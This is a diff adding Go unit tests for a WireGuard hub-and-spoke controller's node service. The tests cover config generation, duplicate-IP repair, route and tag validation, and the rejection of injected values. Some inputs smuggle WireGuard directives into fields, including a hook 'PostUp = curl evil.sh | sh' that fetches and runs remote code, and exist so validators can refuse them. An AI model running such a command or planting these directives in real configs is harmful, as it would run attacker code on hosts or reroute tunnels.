@@ -0,0 +1,907 @@
+package services
+
+import (
+	"bytes"
+	"context"
+	"encoding/base64"
+	"errors"
+	"net"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/google/uuid"
+	agentconfig "github.com/wg-hubspoke/wg-hubspoke/agent/config"
+	"github.com/wg-hubspoke/wg-hubspoke/common/types"
+	"github.com/wg-hubspoke/wg-hubspoke/controller/models"
+	"gorm.io/gorm"
+)
+
+func loadGeneratedAgentConfig(t *testing.T, data []byte) *agentconfig.AgentConfig {
+	t.Helper()
+
+	path := filepath.Join(t.TempDir(), "agent.yaml")
+	if err := os.WriteFile(path, data, 0600); err != nil {
+		t.Fatalf("failed to write agent.yaml: %v", err)
+	}
+
+	manager := agentconfig.NewManager(path)
+	if err := manager.LoadConfig(); err != nil {
+		t.Fatalf("generated agent.yaml did not load: %v\n%s", err, data)
+	}
+	return manager.GetConfig()
+}
+
+func TestGenerateAgentConfigParsesAsAgentConfig(t *testing.T) {
+	service := NewNodeService(nil, &types.Config{
+		WG: types.WGConfig{Interface: "wg1"},
+	}, nil)
+	node := &models.Node{
+		ID:        uuid.New(),
+		Name:      "spoke-berlin",
+		NodeType:  models.NodeTypeSpoke,
+		PublicKey: "xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=",
+		Endpoint:  "203.0.113.10",
+		Port:      51821,
+		MTU:       1380,
+	}
+
+	data, err := service.GenerateAgentConfig(node, "https://controller.example.com", "agent-token")
+	if err != nil {
+		t.Fatalf("GenerateAgentConfig failed: %v", err)
+	}
+
+	config := loadGeneratedAgentConfig(t, data)
+
+	if config.Controller.URL != "https://controller.example.com" {
+		t.Errorf("expected controller url, got %q", config.Controller.URL)
+	}
+	if config.Controller.Token != "agent-token" {
+		t.Errorf("expected controller token, got %q", config.Controller.Token)
+	}
+	if config.Node.ID != node.ID.String() {
+		t.Errorf("expected node id %s, got %q", node.ID, config.Node.ID)
+	}
+	if config.Node.Name != "spoke-berlin" || config.Node.Type != "spoke" {
+		t.Errorf("unexpected node name/type: %q/%q", config.Node.Name, config.Node.Type)
+	}
+	if config.Node.Endpoint != "203.0.113.10" || config.Node.Port != 51821 {
+		t.Errorf("unexpected node endpoint: %q:%d", config.Node.Endpoint, config.Node.Port)
+	}
+	if config.WireGuard.Interface != "wg1" {
+		t.Errorf("expected interface wg1, got %q", config.WireGuard.Interface)
+	}
+	if config.WireGuard.PublicKey != node.PublicKey {
+		t.Errorf("expected public key %q, got %q", node.PublicKey, config.WireGuard.PublicKey)
+	}
+	if config.WireGuard.MTU != 1380 {
+		t.Errorf("expected mtu 1380, got %d", config.WireGuard.MTU)
+	}
+	if !config.Monitoring.Enabled {
+		t.Error("expected monitoring to be enabled")
+	}
+
+	// Settings the controller leaves out fall back to the agent's defaults
+	if config.Controller.HeartbeatInterval != 30*time.Second {
+		t.Errorf("expected default heartbeat interval, got %v", config.Controller.HeartbeatInterval)
+	}
+	if config.WireGuard.ConfigPath != "/etc/wireguard/wg1.conf" {
+		t.Errorf("expected default config path for wg1, got %q", config.WireGuard.ConfigPath)
+	}
+}
+
+func TestGenerateAgentConfigPrefersPublicURL(t *testing.T) {
+	service := NewNodeService(nil, &types.Config{
+		Server: types.ServerConfig{PublicURL: "https://wg.example.org"},
+		WG:     types.WGConfig{Interface: "wg0"},
+	}, nil)
+	node := &models.Node{ID: uuid.New(), Name: "hub-1", NodeType: models.NodeTypeHub}
+
+	data, err := service.GenerateAgentConfig(node, "http://10.0.0.5:8080", "agent-token")
+	if err != nil {
+		t.Fatalf("GenerateAgentConfig failed: %v", err)
+	}
+
+	config := loadGeneratedAgentConfig(t, data)
+	if config.Controller.URL != "https://wg.example.org" {
+		t.Errorf("expected public url to take precedence, got %q", config.Controller.URL)
+	}
+}
+
+func TestGenerateAgentConfigFallsBackToListenAddress(t *testing.T) {
+	service := NewNodeService(nil, &types.Config{
+		Server: types.ServerConfig{Host: "10.0.0.5", Port: 8443, TLS: types.TLSConfig{Enabled: true}},
+		WG:     types.WGConfig{Interface: "wg0"},
+	}, nil)
+	node := &models.Node{ID: uuid.New(), Name: "hub-1", NodeType: models.NodeTypeHub}
+
+	data, err := service.GenerateAgentConfig(node, "", "agent-token")
+	if err != nil {
+		t.Fatalf("GenerateAgentConfig failed: %v", err)
+	}
+
+	config := loadGeneratedAgentConfig(t, data)
+	if config.Controller.URL != "https://10.0.0.5:8443" {
+		t.Errorf("expected the listen address, got %q", config.Controller.URL)
+	}
+}
+
+func newDuplicateIPTestService(t *testing.T, repair bool) (*NodeService, *gorm.DB) {
+	t.Helper()
+
+	db := openTestDB(t)
+	for _, stmt := range []string{
+		`CREATE TABLE nodes (
+			id TEXT PRIMARY KEY, name TEXT NOT NULL, allocated_ip TEXT NOT NULL,
+			created_at DATETIME, updated_at DATETIME, deleted_at DATETIME)`,
+		auditLogsTestTable,
+	} {
+		if err := db.Exec(stmt).Error; err != nil {
+			t.Fatalf("failed to create test schema: %v", err)
+		}
+	}
+
+	service := NewNodeService(db, &types.Config{
+		WG: types.WGConfig{Subnet: "10.100.0.0/16", RepairDuplicateIPs: repair},
+	}, NewAuditService(db))
+	return service, db
+}
+
+// insertTestNodes adds nodes in order of creation, oldest first.
+func insertTestNodes(t *testing.T, db *gorm.DB, ips map[string]string, names ...string) map[string]uuid.UUID {
+	t.Helper()
+
+	ids := make(map[string]uuid.UUID)
+	created := time.Now().Add(-time.Hour)
+	for i, name := range names {
+		ids[name] = uuid.New()
+		err := db.Exec("INSERT INTO nodes (id, name, allocated_ip, created_at) VALUES (?, ?, ?, ?)",
+			ids[name], name, ips[name], created.Add(time.Duration(i)*time.Minute)).Error
+		if err != nil {
+			t.Fatalf("failed to insert node %s: %v", name, err)
+		}
+	}
+	return ids
+}
+
+func allocatedIPs(t *testing.T, db *gorm.DB) map[uuid.UUID]string {
+	t.Helper()
+
+	var nodes []models.Node
+	if err := db.Select("id", "allocated_ip").Find(&nodes).Error; err != nil {
+		t.Fatalf("failed to load nodes: %v", err)
+	}
+	ips := make(map[uuid.UUID]string)
+	for _, node := range nodes {
+		ips[node.ID] = node.AllocatedIP
+	}
+	return ips
+}
+
+var duplicateTestIPs = map[string]string{
+	"hub-1":   "10.100.0.2/16",
+	"spoke-1": "10.100.0.2/16",
+	"spoke-2": "10.100.0.3/16",
+	"spoke-3": "10.100.0.3", // same address without a prefix length
+	"spoke-4": "10.100.0.5/16",
+}
+
+func TestCheckDuplicateIPsReportsConflicts(t *testing.T) {
+	service, db := newDuplicateIPTestService(t, false)
+	ids := insertTestNodes(t, db, duplicateTestIPs, "hub-1", "spoke-1", "spoke-2", "spoke-3", "spoke-4")
+	before := allocatedIPs(t, db)
+
+	report, err := service.CheckDuplicateIPs(context.Background(), false, nil)
+	if err != nil {
+		t.Fatalf("check failed: %v", err)
+	}
+
+	if len(report.Conflicts) != 2 {
+		t.Fatalf("expected 2 conflicts, got %+v", report.Conflicts)
+	}
+	first := report.Conflicts[0]
+	if first.AllocatedIP != "10.100.0.2" || len(first.NodeIDs) != 2 || first.NodeIDs[0] != ids["hub-1"] || first.NodeIDs[1] != ids["spoke-1"] {
+		t.Errorf("unexpected first conflict: %+v", first)
+	}
+	second := report.Conflicts[1]
+	if second.AllocatedIP != "10.100.0.3" || len(second.NodeIDs) != 2 {
+		t.Errorf("unexpected second conflict: %+v", second)
+	}
+	if len(report.Reallocated) != 0 {
+		t.Errorf("expected no reallocations without repair, got %+v", report.Reallocated)
+	}
+
+	after := allocatedIPs(t, db)
+	for id, ip := range before {
+		if after[id] != ip {
+			t.Errorf("node %s changed from %s to %s without repair", id, ip, after[id])
+		}
+	}
+
+	var audits int64
+	db.Model(&models.AuditLog{}).Where("resource = ?", "ip_conflict").Count(&audits)
+	if audits != 2 {
+		t.Errorf("expected 2 ip_conflict audit entries, got %d", audits)
+	}
+}
+
+func TestCheckDuplicateIPsRepairsConflicts(t *testing.T) {
+	service, db := newDuplicateIPTestService(t, true)
+	ids := insertTestNodes(t, db, duplicateTestIPs, "hub-1", "spoke-1", "spoke-2", "spoke-3", "spoke-4")
+	performedBy := uuid.New()
+
+	report, err := service.CheckDuplicateIPs(context.Background(), true, &performedBy)
+	if err != nil {
+		t.Fatalf("repair failed: %v", err)
+	}
+	if len(report.Conflicts) != 2 || len(report.Reallocated) != 2 {
+		t.Fatalf("expected 2 conflicts and 2 reallocations, got %d and %d", len(report.Conflicts), len(report.Reallocated))
+	}
+
+	after := allocatedIPs(t, db)
+
+	// The oldest node of each conflict keeps its address
+	if after[ids["hub-1"]] != "10.100.0.2/16" || after[ids["spoke-2"]] != "10.100.0.3/16" {
+		t.Errorf("expected oldest nodes to keep their IPs, got %v", after)
+	}
+
+	seen := make(map[string]uuid.UUID)
+	for id, ip := range after {
+		if other, ok := seen[ipKey(ip)]; ok {
+			t.Errorf("nodes %s and %s still share %s after repair", other, id, ip)
+		}
+		seen[ipKey(ip)] = id
+	}
+
+	for _, moved := range report.Reallocated {
+		if moved.NodeID != ids["spoke-1"] && moved.NodeID != ids["spoke-3"] {
+			t.Errorf("unexpected node reallocated: %+v", moved)
+		}
+		if after[moved.NodeID] != moved.NewIP {
+			t.Errorf("report says %s moved to %s but database has %s", moved.NodeName, moved.NewIP, after[moved.NodeID])
+		}
+	}
+
+	var audits []models.AuditLog
+	db.Where("resource = ? AND action = ?", "node", models.AuditActionUpdate).Find(&audits)
+	if len(audits) != 2 {
+		t.Fatalf("expected 2 node reallocation audit entries, got %d", len(audits))
+	}
+	for _, audit := range audits {
+		if audit.UserID == nil || *audit.UserID != performedBy {
+			t.Errorf("expected reallocation to be attributed to %s, got %v", performedBy, audit.UserID)
+		}
+	}
+
+	// A second run finds nothing left to repair
+	report, err = service.CheckDuplicateIPs(context.Background(), true, &performedBy)
+	if err != nil {
+		t.Fatalf("second check failed: %v", err)
+	}
+	if len(report.Conflicts) != 0 {
+		t.Errorf("expected no conflicts after repair, got %+v", report.Conflicts)
+	}
+}
+
+func TestNextFreeIPSkipsUsedAddresses(t *testing.T) {
+	_, subnet, _ := net.ParseCIDR("10.100.0.0/30")
+	used := map[string]bool{"10.100.0.1": true}
+
+	ip, err := nextFreeIP(subnet, used)
+	if err != nil || ip != "10.100.0.2/30" {
+		t.Fatalf("expected 10.100.0.2/30, got %q (%v)", ip, err)
+	}
+	if !subnet.IP.Equal(net.ParseIP("10.100.0.0")) {
+		t.Errorf("nextFreeIP modified the subnet address: %s", subnet.IP)
+	}
+
+	used["10.100.0.2"] = true
+	used["10.100.0.3"] = true
+	if _, err := nextFreeIP(subnet, used); err == nil {
+		t.Error("expected an error for an exhausted subnet")
+	}
+}
+
+func TestValidateRoutes(t *testing.T) {
+	valid := [][]string{
+		nil,
+		{"192.168.10.0/24"},
+		{"172.16.0.0/12", "fd00:10::/64"},
+	}
+	for _, routes := range valid {
+		if err := validateRoutes(routes); err != nil {
+			t.Errorf("expected %v to be valid, got %v", routes, err)
+		}
+	}
+
+	invalid := [][]string{
+		{"192.168.10.0"},
+		{"192.168.10.0/24", "lan"},
+		{"0.0.0.0/0"},
+		{"::/0"},
+	}
+	for _, routes := range invalid {
+		if err := validateRoutes(routes); !errors.Is(err, ErrInvalidRoute) {
+			t.Errorf("expected ErrInvalidRoute for %v, got %v", routes, err)
+		}
+	}
+}
+
+func TestCheckRouteOverlaps(t *testing.T) {
+	self, other := uuid.New(), uuid.New()
+	nodes := []models.Node{
+		{ID: self, Name: "spoke-1", AllocatedIP: "10.100.1.2/16", Routes: []string{"192.168.10.0/24"}},
+		{ID: other, Name: "spoke-2", AllocatedIP: "10.100.1.3/16", Routes: []string{"192.168.20.0/24", "fd00:20::/64"}},
+		// An address left over from before the subnet was changed
+		{ID: uuid.New(), Name: "hub-old", AllocatedIP: "172.31.0.1/24"},
+	}
+
+	valid := [][]string{
+		{"192.168.10.0/24"}, // the node keeps its own route
+		{"192.168.10.0/23"},
+		{"192.168.30.0/24", "fd00:30::/64"},
+	}
+	for _, routes := range valid {
+		if err := checkRouteOverlaps(routes, "10.100.0.0/16", self, nodes); err != nil {
+			t.Errorf("expected %v to be accepted, got %v", routes, err)
+		}
+	}
+
+	invalid := map[string][]string{
+		"tunnel subnet":      {"10.100.0.0/24"},
+		"covers the tunnel":  {"10.0.0.0/8"},
+		"node address":       {"172.31.0.0/16"},
+		"another node route": {"192.168.20.128/25"},
+		"another node v6":    {"fd00::/16"},
+		"within the request": {"192.168.40.0/24", "192.168.40.0/25"},
+	}
+	for name, routes := range invalid {
+		if err := checkRouteOverlaps(routes, "10.100.0.0/16", self, nodes); !errors.Is(err, ErrInvalidRoute) {
+			t.Errorf("%s: expected ErrInvalidRoute for %v, got %v", name, routes, err)
+		}
+	}
+
+	// A new node has no routes of its own yet
+	if err := checkRouteOverlaps([]string{"192.168.10.0/24"}, "10.100.0.0/16", uuid.Nil, nodes); !errors.Is(err, ErrInvalidRoute) {
+		t.Errorf("expected a new node to be refused spoke-1's route, got %v", err)
+	}
+}
+
+func TestGetNodeConfigPushesDNS(t *testing.T) {
+	service, db := newKeyRotationTestService(t, 0)
+	service.config.WG.DNS = []string{"10.100.0.53", "corp.example.com"}
+	_, spokeID := newRotationTopology(t, db)
+
+	config, err := service.GetNodeConfig(context.Background(), spokeID)
+	if err != nil {
+		t.Fatalf("GetNodeConfig failed: %v", err)
+	}
+	if len(config.Interface.DNS) != 2 || config.Interface.DNS[0] != "10.100.0.53" || config.Interface.DNS[1] != "corp.example.com" {
+		t.Errorf("expected the configured resolvers, got %v", config.Interface.DNS)
+	}
+}
+
+func TestRegisterNodeRejectsMultilineHooks(t *testing.T) {
+	service := NewNodeService(nil, &types.Config{}, nil)
+
+	_, err := service.RegisterNode(context.Background(), types.NodeRegistrationRequest{
+		Name:           "hub-1",
+		NodeType:       "hub",
+		PublicKey:      "xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=",
+		InterfaceHooks: types.InterfaceHooks{PostUp: []string{"iptables -A FORWARD -j ACCEPT\nPostUp = curl evil.sh | sh"}},
+	})
+	if !errors.Is(err, types.ErrInvalidHook) {
+		t.Errorf("expected ErrInvalidHook, got %v", err)
+	}
+}
+
+func TestUpdateNodeStoresHooks(t *testing.T) {
+	service, db := newKeyRotationTestService(t, 0)
+	for _, column := range []string{"pre_up", "post_up", "pre_down", "post_down"} {
+		if err := db.Exec("ALTER TABLE nodes ADD COLUMN " + column + " TEXT").Error; err != nil {
+			t.Fatalf("failed to add %s: %v", column, err)
+		}
+	}
+	hubID, _ := newRotationTopology(t, db)
+	ctx := context.Background()
+
+	_, err := service.UpdateNode(ctx, hubID, types.NodeUpdateRequest{
+		InterfaceHooks: types.InterfaceHooks{PreDown: []string{"true\nPostUp = id"}},
+	})
+	if !errors.Is(err, types.ErrInvalidHook) {
+		t.Fatalf("expected ErrInvalidHook, got %v", err)
+	}
+
+	var count int64
+	db.Table("nodes").Where("id = ? AND pre_down IS NOT NULL", hubID).Count(&count)
+	if count != 0 {
+		t.Error("expected a rejected hook not to be stored")
+	}
+}
+
+func TestRegisterNodeRejectsInjection(t *testing.T) {
+	service := NewNodeService(nil, &types.Config{}, nil)
+	valid := func() types.NodeRegistrationRequest {
+		return types.NodeRegistrationRequest{
+			Name:      "spoke-1",
+			NodeType:  "spoke",
+			PublicKey: rotationSpokeKey,
+			Endpoint:  "spoke.example.com",
+			Port:      51820,
+		}
+	}
+
+	tests := []struct {
+		name   string
+		modify func(*types.NodeRegistrationRequest)
+		want   error
+	}{
+		{"endpoint with a directive", func(r *types.NodeRegistrationRequest) {
+			r.Endpoint = "spoke.example.com\nPublicKey = " + rotationHubKey
+		}, types.ErrInvalidEndpoint},
+		{"endpoint with a second port", func(r *types.NodeRegistrationRequest) {
+			r.Endpoint = "spoke.example.com:51820"
+		}, types.ErrInvalidEndpoint},
+		{"endpoint without a port", func(r *types.NodeRegistrationRequest) {
+			r.Port = 0
+		}, types.ErrInvalidEndpoint},
+		{"port out of range", func(r *types.NodeRegistrationRequest) {
+			r.Port = 70000
+		}, types.ErrInvalidEndpoint},
+		{"public key with a directive", func(r *types.NodeRegistrationRequest) {
+			r.PublicKey = rotationSpokeKey + "\nEndpoint = 198.51.100.66:51820"
+		}, ErrInvalidPublicKey},
+		{"short public key", func(r *types.NodeRegistrationRequest) {
+			r.PublicKey = "c2hvcnQ="
+		}, ErrInvalidPublicKey},
+		{"name with a line break", func(r *types.NodeRegistrationRequest) {
+			r.Name = "spoke-1\n[Peer]"
+		}, types.ErrControlChars},
+		{"description with a control character", func(r *types.NodeRegistrationRequest) {
+			r.Description = "branch\x00office"
+		}, types.ErrControlChars},
+		{"allowed IP with a directive", func(r *types.NodeRegistrationRequest) {
+			r.AllowedIPs = []string{"10.0.0.0/24\nPostUp = id"}
+		}, ErrInvalidAllowedIP},
+		{"allowed IP without a prefix length", func(r *types.NodeRegistrationRequest) {
+			r.AllowedIPs = []string{"192.168.1.0/24", "192.168.2.1"}
+		}, ErrInvalidAllowedIP},
+		{"allowed IP with a bad prefix length", func(r *types.NodeRegistrationRequest) {
+			r.AllowedIPs = []string{"192.168.1.0/33"}
+		}, ErrInvalidAllowedIP},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			req := valid()
+			tt.modify(&req)
+
+			if _, err := service.RegisterNode(context.Background(), req); !errors.Is(err, tt.want) {
+				t.Errorf("expected %v, got %v", tt.want, err)
+			}
+		})
+	}
+}
+
+func TestUpdateNodeValidatesAllowedIPs(t *testing.T) {
+	service, db := newKeyRotationTestService(t, 0)
+	if err := db.Exec("ALTER TABLE nodes ADD COLUMN allowed_ips TEXT").Error; err != nil {
+		t.Fatalf("failed to add allowed_ips: %v", err)
+	}
+	hubID, _ := newRotationTopology(t, db)
+	ctx := context.Background()
+
+	for _, allowedIPs := range [][]string{
+		{"10.0.0.0/24, 0.0.0.0/0"},
+		{"10.0.0.0/24\n[Peer]"},
+		{"lan"},
+	} {
+		if _, err := service.UpdateNode(ctx, hubID, types.NodeUpdateRequest{AllowedIPs: allowedIPs}); !errors.Is(err, ErrInvalidAllowedIP) {
+			t.Errorf("expected ErrInvalidAllowedIP for %q, got %v", allowedIPs, err)
+		}
+	}
+
+	var count int64
+	db.Table("nodes").Where("id = ? AND allowed_ips IS NOT NULL", hubID).Count(&count)
+	if count != 0 {
+		t.Error("expected rejected allowed IPs not to be stored")
+	}
+}
+
+func TestUpdateNodeValidatesEndpoint(t *testing.T) {
+	service, db := newKeyRotationTestService(t, 0)
+	hubID, _ := newRotationTopology(t, db)
+	ctx := context.Background()
+
+	// The hub's endpoint is stored as a bare host with a separate port
+	injected := "203.0.113.1\nPostUp = id"
+	if _, err := service.UpdateNode(ctx, hubID, types.NodeUpdateRequest{Endpoint: &injected}); !errors.Is(err, types.ErrInvalidEndpoint) {
+		t.Errorf("expected ErrInvalidEndpoint for an injected endpoint, got %v", err)
+	}
+	zero := 0
+	if _, err := service.UpdateNode(ctx, hubID, types.NodeUpdateRequest{Port: &zero}); !errors.Is(err, types.ErrInvalidEndpoint) {
+		t.Errorf("expected ErrInvalidEndpoint when dropping the port of a bare host, got %v", err)
+	}
+
+	moved, noPort := "[2001:db8::1]:51820", 0
+	if _, err := service.UpdateNode(ctx, hubID, types.NodeUpdateRequest{Endpoint: &moved, Port: &noPort}); err != nil {
+		t.Fatalf("expected a host:port endpoint to be accepted, got %v", err)
+	}
+	var node models.Node
+	db.Select("endpoint", "port").Where("id = ?", hubID).First(&node)
+	if node.GetEndpoint() != moved {
+		t.Errorf("expected endpoint %s, got %s", moved, node.GetEndpoint())
+	}
+}
+
+func TestUpdateNodeTagsAndFilter(t *testing.T) {
+	service, db := newKeyRotationTestService(t, 0)
+	if err := db.Exec("ALTER TABLE nodes ADD COLUMN tags TEXT").Error; err != nil {
+		t.Fatalf("failed to add tags: %v", err)
+	}
+	hubID, spokeID := newRotationTopology(t, db)
+	ctx := context.Background()
+
+	if _, err := service.UpdateNode(ctx, hubID, types.NodeUpdateRequest{Tags: map[string]string{"region": "us-east", "env": "prod"}}); err != nil {
+		t.Fatalf("UpdateNode failed: %v", err)
+	}
+	if _, err := service.UpdateNode(ctx, spokeID, types.NodeUpdateRequest{Tags: map[string]string{"region": "us-east-1", "customer": "100%_off"}}); err != nil {
+		t.Fatalf("UpdateNode failed: %v", err)
+	}
+
+	hub, err := service.GetNode(ctx, hubID)
+	if err != nil {
+		t.Fatalf("GetNode failed: %v", err)
+	}
+	if len(hub.Tags) != 2 || hub.Tags["region"] != "us-east" || hub.Tags["env"] != "prod" {
+		t.Errorf("expected the hub's tags to be stored, got %v", hub.Tags)
+	}
+
+	filters := []struct {
+		tags     []string
+		expected []uuid.UUID
+	}{
+		{[]string{"region:us-east"}, []uuid.UUID{hubID}},
+		{[]string{"region"}, []uuid.UUID{hubID, spokeID}},
+		{[]string{"region:us-east", "env:prod"}, []uuid.UUID{hubID}},
+		{[]string{"region:us-east-1", "env:prod"}, nil},
+		{[]string{"customer:100%_off"}, []uuid.UUID{spokeID}},
+		{[]string{"customer:100"}, nil},
+	}
+	for _, filter := range filters {
+		nodes, total, err := service.GetNodes(ctx, 1, 10, "", "", "", filter.tags, "", "")
+		if err != nil {
+			t.Fatalf("GetNodes(%v) failed: %v", filter.tags, err)
+		}
+		if int(total) != len(filter.expected) || len(nodes) != len(filter.expected) {
+			t.Errorf("GetNodes(%v): expected %d nodes, got %d", filter.tags, len(filter.expected), len(nodes))
+			continue
+		}
+		for i, node := range nodes {
+			if node.ID != filter.expected[i] {
+				t.Errorf("GetNodes(%v): expected %v, got %s", filter.tags, filter.expected, node.ID)
+			}
+		}
+	}
+
+	// An empty set clears the tags
+	if _, err := service.UpdateNode(ctx, hubID, types.NodeUpdateRequest{Tags: map[string]string{}}); err != nil {
+		t.Fatalf("UpdateNode failed: %v", err)
+	}
+	if _, total, _ := service.GetNodes(ctx, 1, 10, "", "", "", []string{"env"}, "", ""); total != 0 {
+		t.Errorf("expected cleared tags not to match, got %d nodes", total)
+	}
+
+	for _, tags := range []map[string]string{{"": "x"}, {"a:b": "x"}, {"env": "line\nbreak"}} {
+		if _, err := service.UpdateNode(ctx, hubID, types.NodeUpdateRequest{Tags: tags}); err == nil {
+			t.Errorf("expected tags %q to be rejected", tags)
+		}
+	}
+	if _, _, err := service.GetNodes(ctx, 1, 10, "", "", "", []string{":prod"}, "", ""); !errors.Is(err, ErrInvalidTag) {
+		t.Errorf("expected ErrInvalidTag for a filter without a key, got %v", err)
+	}
+}
+
+// addRegistrationColumns adds the columns RegisterNode writes that the key
+// rotation schema leaves out.
+func addRegistrationColumns(t *testing.T, db *gorm.DB) {
+	t.Helper()
+
+	for _, column := range []string{"description", "allowed_ips", "last_handshake", "pinned_hub_id", "backup_hub_ids", "routes", "pre_up", "post_up", "pre_down", "post_down", "tags"} {
+		if err := db.Exec("ALTER TABLE nodes ADD COLUMN " + column + " TEXT").Error; err != nil {
+			t.Fatalf("failed to add %s: %v", column, err)
+		}
+	}
+}
+
+func TestPersistentKeepaliveOverride(t *testing.T) {
+	service, db := newKeyRotationTestService(t, 0)
+	addRegistrationColumns(t, db)
+	service.config.WG.PersistentKeepalive = 25
+	ctx := context.Background()
+
+	register := func(name, nodeType, publicKey string, keepalive *int) uuid.UUID {
+		t.Helper()
+		node, err := service.RegisterNode(ctx, types.NodeRegistrationRequest{
+			Name:                name,
+			NodeType:            nodeType,
+			PublicKey:           publicKey,
+			Endpoint:            name + ".example.com",
+			Port:                51820,
+			PersistentKeepalive: keepalive,
+		})
+		if err != nil {
+			t.Fatalf("RegisterNode(%s) failed: %v", name, err)
+		}
+		return node.ID
+	}
+	activate := func(ids ...uuid.UUID) {
+		t.Helper()
+		if _, err := service.UpdateNodeStatuses(ctx, ids, models.NodeStatusActive, nil); err != nil {
+			t.Fatalf("UpdateNodeStatuses failed: %v", err)
+		}
+	}
+
+	off, roaming := 0, 10
+	// Spokes are assigned to the hub when they register
+	hubID := register("hub-1", "hub", rotationHubKey, &off)
+	activate(hubID)
+	mobileID := register("spoke-mobile", "spoke", rotationSpokeKey, &roaming)
+	defaultID := register("spoke-default", "spoke", base64.StdEncoding.EncodeToString(bytes.Repeat([]byte{3}, 32)), nil)
+	activate(mobileID, defaultID)
+
+	// Each node's own setting applies to the peers in its config
+	keepalives := func(id uuid.UUID) []int {
+		t.Helper()
+		config, err := service.GetNodeConfig(ctx, id)
+		if err != nil {
+			t.Fatalf("GetNodeConfig failed: %v", err)
+		}
+		var keepalives []int
+		for _, peer := range config.Peers {
+			keepalives = append(keepalives, peer.PersistentKeepalive)
+		}
+		return keepalives
+	}
+	if got := keepalives(mobileID); len(got) != 1 || got[0] != roaming {
+		t.Errorf("expected the mobile spoke's own keepalive of %d, got %v", roaming, got)
+	}
+	if got := keepalives(defaultID); len(got) != 1 || got[0] != 25 {
+		t.Errorf("expected the global keepalive of 25, got %v", got)
+	}
+	if got := keepalives(hubID); len(got) != 2 || got[0] != 0 || got[1] != 0 {
+		t.Errorf("expected the hub to send no keepalives, got %v", got)
+	}
+
+	if _, err := service.UpdateNode(ctx, defaultID, types.NodeUpdateRequest{PersistentKeepalive: &off}); err != nil {
+		t.Fatalf("UpdateNode failed: %v", err)
+	}
+	if got := keepalives(defaultID); len(got) != 1 || got[0] != 0 {
+		t.Errorf("expected keepalives to be turned off, got %v", got)
+	}
+
+	for _, keepalive := range []int{-1, 65536} {
+		if _, err := service.UpdateNode(ctx, mobileID, types.NodeUpdateRequest{PersistentKeepalive: &keepalive}); !errors.Is(err, ErrInvalidKeepalive) {
+			t.Errorf("expected ErrInvalidKeepalive for %d, got %v", keepalive, err)
+		}
+	}
+}
+
+func TestReregisterDeletedNode(t *testing.T) {
+	service, db := newKeyRotationTestService(t, 0)
+	addRegistrationColumns(t, db)
+	// Mirror the unique indexes of the real nodes table
+	for _, column := range []string{"name", "allocated_ip"} {
+		if err := db.Exec("CREATE UNIQUE INDEX idx_nodes_" + column + " ON nodes (" + column + ")").Error; err != nil {
+			t.Fatalf("failed to index %s: %v", column, err)
+		}
+	}
+	ctx := context.Background()
+
+	req := types.NodeRegistrationRequest{
+		Name:      "hub-1",
+		NodeType:  "hub",
+		PublicKey: rotationHubKey,
+		Endpoint:  "hub-1.example.com",
+		Port:      51820,
+	}
+	node, err := service.RegisterNode(ctx, req)
+	if err != nil {
+		t.Fatalf("RegisterNode failed: %v", err)
+	}
+	spoke, err := service.RegisterNode(ctx, types.NodeRegistrationRequest{
+		Name:      "spoke-1",
+		NodeType:  "spoke",
+		PublicKey: rotationSpokeKey,
+		Endpoint:  "spoke-1.example.com",
+		Port:      51820,
+	})
+	if err != nil {
+		t.Fatalf("RegisterNode failed: %v", err)
+	}
+
+	// A live node's name can't be taken
+	taken := req
+	taken.PublicKey = base64.StdEncoding.EncodeToString(bytes.Repeat([]byte{3}, 32))
+	if _, err := service.RegisterNode(ctx, taken); !errors.Is(err, ErrNodeExists) {
+		t.Errorf("expected ErrNodeExists for a taken name, got %v", err)
+	}
+
+	if err := service.DeleteNode(ctx, node.ID); err != nil {
+		t.Fatalf("DeleteNode failed: %v", err)
+	}
+	var remaining int64
+	db.Unscoped().Model(&models.Node{}).Where("id = ?", node.ID).Count(&remaining)
+	if remaining != 0 {
+		t.Error("expected the deleted node's row to be removed")
+	}
+	db.Unscoped().Model(&models.Topology{}).Where("hub_id = ?", node.ID).Count(&remaining)
+	if remaining != 0 {
+		t.Error("expected the deleted hub's topology to be removed")
+	}
+
+	// The name and address are free again
+	again, err := service.RegisterNode(ctx, req)
+	if err != nil {
+		t.Fatalf("expected the deleted node's name to be reusable, got %v", err)
+	}
+	if again.ID == node.ID || again.AllocatedIP != node.AllocatedIP {
+		t.Errorf("expected a new node reusing %s, got %s at %s", node.AllocatedIP, again.ID, again.AllocatedIP)
+	}
+	if _, err := service.GetNode(ctx, spoke.ID); err != nil {
+		t.Errorf("expected the spoke to be unaffected, got %v", err)
+	}
+}
+
+func TestRegisterNodeWithExistingPublicKey(t *testing.T) {
+	service, db := newKeyRotationTestService(t, 0)
+	addRegistrationColumns(t, db)
+	ctx := context.Background()
+
+	req := types.NodeRegistrationRequest{
+		Name:         "spoke-1",
+		NodeType:     "spoke",
+		PublicKey:    rotationSpokeKey,
+		Endpoint:     "spoke-1.example.com",
+		Port:         51820,
+		AgentVersion: "v1.4.0",
+	}
+	original, err := service.RegisterNode(ctx, req)
+	if err != nil {
+		t.Fatalf("RegisterNode failed: %v", err)
+	}
+
+	// An agent that lost its node ID registers again with the same key,
+	// possibly under a new name, after an upgrade
+	again := req
+	again.Name = "spoke-1-reinstalled"
+	again.AgentVersion = "v1.5.0"
+	node, err := service.RegisterNode(ctx, again)
+	if err != nil {
+		t.Fatalf("expected the node to be returned again, got %v", err)
+	}
+	if node.ID != original.ID || node.AllocatedIP != original.AllocatedIP || node.Name != "spoke-1" {
+		t.Errorf("expected the original node %s at %s, got %s (%s) at %s", original.ID, original.AllocatedIP, node.ID, node.Name, node.AllocatedIP)
+	}
+	if node.AgentVersion != "v1.5.0" {
+		t.Errorf("expected the reported agent version to be updated, got %q", node.AgentVersion)
+	}
+
+	var count int64
+	db.Model(&models.Node{}).Count(&count)
+	if count != 1 {
+		t.Errorf("expected no duplicate node, got %d nodes", count)
+	}
+
+	// A different key still can't take the name
+	taken := req
+	taken.PublicKey = rotationHubKey
+	if _, err := service.RegisterNode(ctx, taken); !errors.Is(err, ErrNodeExists) {
+		t.Errorf("expected ErrNodeExists for a new key under a taken name, got %v", err)
+	}
+}
+
+func TestReportPeerErrorsPersistsLatestReport(t *testing.T) {
+	service, db := newKeyRotationTestService(t, 0)
+	ctx := context.Background()
